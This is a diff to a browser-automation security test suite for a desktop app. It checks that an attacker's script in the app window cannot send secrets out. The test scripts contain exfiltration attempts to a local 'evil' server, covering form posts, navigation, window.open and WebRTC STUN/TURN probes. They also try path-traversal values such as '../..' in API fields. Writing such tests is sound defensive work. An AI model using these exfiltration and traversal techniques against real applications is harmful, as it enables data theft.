@@ -2,10 +2,12 @@
  * What a page can do whose script is an attacker's. Everything here runs within the window of the real program, with its session.
  * What another site can do is told by loopback-browser.test.ts.
  */
+import { createSocket } from 'node:dgram';
 import { rmSync, writeFileSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 import { join } from 'node:path';
+import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildPreload } from '../../scripts/build-preload.ts';
 import { openPassphraseVault } from '../../src/main/shell/desktop/passphrase-vault.ts';
@@ -15,6 +17,7 @@ import { contract } from '../../src/shared/contract.ts';
 import { openDesktop } from '../support/desktop-driver.ts';
 import { closeChromium } from '../support/electron-stand-in/chromium.ts';
 import { copyHome } from '../support/prepared-homes.ts';
+import { type Outside, tryEveryWayOut, WITHOUT_NAVIGATION } from '../support/ways-out.ts';
 import { type Window, withWorkstation } from '../support/workstation.ts';
 
 const SECRET = 'the secret of the vault, 7d1f0c';
@@ -24,6 +27,7 @@ const workstation = withWorkstation('sample', ['--sample']);
 const stolen: string[] = [];
 let evil: Server;
 let evilPort: number;
+let outside: Outside & { close(): void };
 let window: Window;
 
 beforeAll(async () => {
@@ -38,6 +42,7 @@ beforeAll(async () => {
   });
   await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
   evilPort = (evil.address() as AddressInfo).port;
+  outside = { origin: `http://127.0.0.1:${evilPort}`, ...(await listenRaw()) };
   const { home } = workstation();
   writeFileSync(join(home, 'secret.txt'), FILE_SECRET);
   writeFileSync(join(home, 'demo', 'reports', '0123456789ab.txt'), FILE_SECRET);
@@ -45,6 +50,7 @@ beforeAll(async () => {
   await vault.put('kraken', SECRET);
 }, 60_000);
 afterAll(async () => {
+  outside.close();
   evil.closeAllConnections();
   await new Promise((resolve) => evil.close(resolve));
 });
@@ -65,15 +71,42 @@ const HELPERS = `
   };
 `;
 
-async function openVictim(place: string): Promise<void> {
-  window = await workstation().openWindow({ place });
-  await window.settle();
+async function openVictim(place: string, before?: (page: Page) => Promise<void>): Promise<void> {
+  window = await workstation().openWindow({ place, ...(before === undefined ? {} : { before }) });
+  if (before !== withoutProgram) await window.settle();
   // the attacks are refused, and the browser says so
   window.expectProblem(
-    /content policy|Content Security Policy|Failed to load|Not allowed to load|^console: (Refused|Fetch API|Connecting|Framing|Loading|Sending|Creating|This document requires 'Trusted)/,
+    /content policy|Content Security Policy|Failed to load|Not allowed to (load|navigate)|Navigation was aborted|Maximum call stack|^console: (Blocked opening|Refused|Fetch API|Connecting|Framing|Loading|Sending|Creating|This document requires 'Trusted)/,
   );
   stolen.length = 0;
 }
+
+/** Answers the page with other headers, and another text where one is given. */
+const servePage = (page: Page, change: (headers: Record<string, string>) => Record<string, string>, body?: string) =>
+  page.route(
+    ({ pathname }) => pathname === '/',
+    async (route) => {
+      const response = await route.fetch();
+      await route.fulfill({ response, headers: change(response.headers()), ...(body === undefined ? {} : { body }) });
+    },
+  );
+const withoutAllowList = (page: Page): Promise<void> =>
+  servePage(page, ({ 'connection-allowlist': _, ...headers }) => headers);
+const withoutProgram = (page: Page): Promise<void> =>
+  servePage(
+    page,
+    ({ 'content-security-policy': policy = '', ...headers }) => ({
+      ...headers,
+      'content-security-policy': policy.replace(/^sandbox [^;]*; /, ''),
+    }),
+    '<!doctype html><title>Empty</title><body></body>',
+  );
+/** Either half of the locks holds alone. */
+const LOCKS: [string, ((page: Page) => Promise<void>) | undefined][] = [
+  ['as it is', undefined],
+  ['in a browser that does not know connection allow-lists', withoutAllowList],
+  ['with the connection allow-list alone', withoutProgram],
+];
 
 describe('a script of an attacker', () => {
   it('sends nothing to another origin', async () => {
@@ -130,12 +163,43 @@ describe('a script of an attacker', () => {
       const form = Object.assign(document.createElement('form'), { action: evil + 'form', method: 'post', target: '_blank' });
       document.body.append(form);
       form.submit();
-      const inner = document.createElement('iframe');
-      document.body.append(inner);
-      results.inner = await within(5000, inner.contentWindow.fetch(evil + 'inner').then(() => 'sent', () => 'refused'));
       return results;
     `);
     expect([...new Set(Object.values(results))]).toEqual(['refused']);
+    await quiet();
+    expect(stolen).toEqual([]);
+  });
+
+  it.each(LOCKS)('finds no way out of its window, %s', async (_, before) => {
+    await openVictim('/market', before);
+    const { page } = window;
+    const address = page.url();
+    const isBare = before === withoutProgram;
+    // the same page to the end: a navigation that began would end the script
+    const script = tryEveryWayOut(outside, ...(isBare ? [WITHOUT_NAVIGATION] : []));
+    const tried = (await page.evaluate(script)) as string[];
+    expect(new Set(tried).size).toBe(tried.length);
+    expect(tried.length).toBeGreaterThan(isBare ? 20 : 60);
+    await quiet();
+    expect(stolen).toEqual([]);
+    expect(new URL(page.url()).origin).toBe(new URL(address).origin);
+    expect(page.context().pages()).toEqual([page]);
+  });
+
+  it('finds no way out where its stack is full, so that nothing of the program can run', async () => {
+    await openVictim('/market');
+    const { page } = window;
+    const full = `{
+      let count = 0;
+      const fill = () => {
+        try { fill(); } catch {}
+        count += 1;
+        if (count < 50) try { location.href = '${outside.origin}/full' + count; } catch {}
+      };
+      fill();
+    }`;
+    // whether the browser goes nowhere, or to a page of its own that says so
+    await page.evaluate(full).catch(() => undefined);
     await quiet();
     expect(stolen).toEqual([]);
   });
@@ -153,11 +217,13 @@ describe('a script of an attacker', () => {
         found.push(await post('backups.verify', { id: '../' + file }), await post('backups.restore', { id: '../..' + file }));
         found.push(await post('backtests.run', { reportPath: file }), await read('/reports/' + encodeURIComponent('../..' + file)));
         found.push(await post('bench.run', { name: 'panel', dataPath: file }));
-        const frame = document.createElement('iframe');
-        frame.src = 'file://' + file;
-        document.body.append(frame);
-        await within(1000, new Promise((end) => { frame.onload = end; }));
-        try { found.push(frame.contentDocument?.body?.textContent ?? 'refused'); } catch { found.push('refused'); }
+        try {
+          const frame = document.createElement('iframe');
+          frame.src = 'file://' + file;
+          document.body.append(frame);
+          await within(1000, new Promise((end) => { frame.onload = end; }));
+          found.push(frame.contentDocument?.body?.textContent ?? 'refused');
+        } catch { found.push('refused'); }
         const upload = '/v1/files?' + new URLSearchParams({ name: '../../' + file, batch: 'a' });
         found.push(await read(upload, { method: 'PUT', body: 'mine' }));
       }
@@ -267,14 +333,8 @@ describe('the desktop', () => {
     const { page } = desktop;
     await page.waitForSelector('main');
     const before = await page.evaluate('location.origin');
-    await page.evaluate(`{
-      const evil = 'http://127.0.0.1:${evilPort}/';
-      window.open(evil + 'open');
-      const link = Object.assign(document.createElement('a'), { href: evil + 'link', target: '_blank' });
-      document.body.append(link);
-      link.click();
-      location.href = evil + 'navigation';
-    }`);
+    const tried = (await page.evaluate(tryEveryWayOut(outside))) as string[];
+    expect(tried.length).toBeGreaterThan(60);
     await quiet();
     expect(stolen).toEqual([]);
     expect(await page.evaluate('location.origin')).toBe(before);
@@ -290,10 +350,40 @@ function secrets(): string[] {
   return [sessionKey, findRunning(home)?.key ?? 'none'];
 }
 
+/** Listens for what is no request: connections, and packets. */
+async function listenRaw(): Promise<{ tcpPort: number; udpPort: number; close(): void }> {
+  const tcp = createTcpServer((socket) => {
+    socket.on('error', () => undefined);
+    stolen.push('connection');
+    socket.destroy();
+  });
+  const udp = createSocket('udp4', () => stolen.push('packet'));
+  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
+  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
+  const close = (): void => {
+    tcp.close();
+    udp.close();
+  };
+  return { tcpPort: (tcp.address() as AddressInfo).port, udpPort: udp.address().port, close };
+}
+
 /** Waits until what was sent before would have arrived: the browser itself reaches the attacker, in a page of his own. */
 async function quiet(): Promise<void> {
   const page = await window.page.context().newPage();
   await page.goto(`http://127.0.0.1:${evilPort}/probe`);
+  const before = [...stolen];
+  await page.evaluate(`{
+    const iceServers = [
+      { urls: 'stun:127.0.0.1:${outside.udpPort}' },
+      { urls: 'turn:127.0.0.1:${outside.tcpPort}?transport=tcp', username: 'a', credential: 'b' },
+    ];
+    globalThis.peer = new RTCPeerConnection({ iceServers });
+    peer.createDataChannel('probe');
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  }`);
+  const arrived = () => stolen.slice(before.length);
+  await expect.poll(() => ['connection', 'packet'].every((what) => arrived().includes(what))).toBe(true);
   await page.close();
-  expect(stolen.splice(stolen.indexOf('GET /probe'), 1)).toEqual(['GET /probe']);
+  expect(before).toContain('GET /probe');
+  stolen.splice(0, stolen.length, ...before.filter((what) => what !== 'GET /probe'));
 }
